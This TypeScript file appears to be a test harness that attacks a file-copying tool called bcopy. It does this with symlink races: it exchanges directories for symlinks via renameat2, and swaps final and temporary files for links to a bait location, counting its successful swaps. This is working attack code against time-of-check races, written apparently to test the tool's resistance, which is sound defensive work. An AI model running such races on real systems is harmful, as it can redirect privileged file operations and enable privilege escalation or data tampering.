import {
  existsSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { deserialize, serialize } from 'node:v8';
import './become-user.ts';
import koffi from 'koffi';
import { randomNumbers } from './random.ts';

/** Swaps what is in a tree for symlinks to another place, and back, as fast as it can until a file `stop` is there. */
export type Attack = {
  readonly kind: 'exchange' | 'dance' | 'files';
  /** The directory that holds the victims, and a place of the attacker's own on the same file system. */
  readonly tree: string;
  readonly aside: string;
  readonly victims: readonly string[];
  /** Where the symlinks lead. */
  readonly bait: string;
  readonly stop: string;
  readonly seed: number;
};

const renameat2 = koffi
  .load('libc.so.6')
  .func('int renameat2(int, const char *, int, const char *, uint32_t)');
const RENAME_EXCHANGE = 2;
const AT_FDCWD = -100;

const attack = deserialize(readFileSync(0)) as Attack;
const random = randomNumbers(attack.seed);
let swaps = 0;

/** What bcopy does meanwhile makes many a step fail. */
function attempt(step: () => void): boolean {
  try {
    step();
    return true;
  } catch {
    return false;
  }
}

const exchange = (one: string, other: string) =>
  renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) === 0;

function swapDirectory(name: string): void {
  const [victim, mine] = [`${attack.tree}/${name}`, `${attack.aside}/${name}`];
  if (!existsSync(victim)) return;
  if (attack.kind === 'exchange') {
    attempt(() => symlinkSync(attack.bait, mine));
    if (exchange(victim, mine)) swaps++;
    pause();
    exchange(victim, mine);
    attempt(() => rmSync(mine, { recursive: true, force: true }));
    return;
  }
  if (!attempt(() => renameSync(victim, mine))) return;
  if (attempt(() => symlinkSync(attack.bait, victim))) swaps++;
  pause();
  attempt(() => unlinkSync(victim));
  attempt(() => renameSync(mine, victim));
  attempt(() => rmSync(mine, { recursive: true, force: true }));
}

/** Final names, and temporary ones as soon as they are there. */
function swapFile(directory: string): void {
  const path = `${attack.tree}/${directory}`;
  let names: string[] = [];
  attempt(() => {
    names = readdirSync(path);
  });
  const temporary = names.filter((name) => name.startsWith('.bcopy.'));
  const name = temporary[0] ?? names[random(names.length || 1)];
  if (name === undefined) return;
  attempt(() => unlinkSync(`${path}/${name}`));
  if (attempt(() => symlinkSync(`${attack.bait}/f${random(4)}`, `${path}/${name}`))) swaps++;
}

/** So long that something can happen in between, mostly not at all. */
function pause(): void {
  const end = performance.now() + random(3) / 4;
  while (performance.now() < end);
}

/** Says that it is at work. */
writeFileSync(`${attack.stop}.${attack.seed}`, '');
while (!existsSync(attack.stop)) {
  for (let i = 0; i < 50; i++) {
    const name = attack.victims[random(attack.victims.length)]!;
    if (attack.kind === 'files') swapFile(name);
    else swapDirectory(name);
  }
}
writeFileSync(3, serialize(swaps));
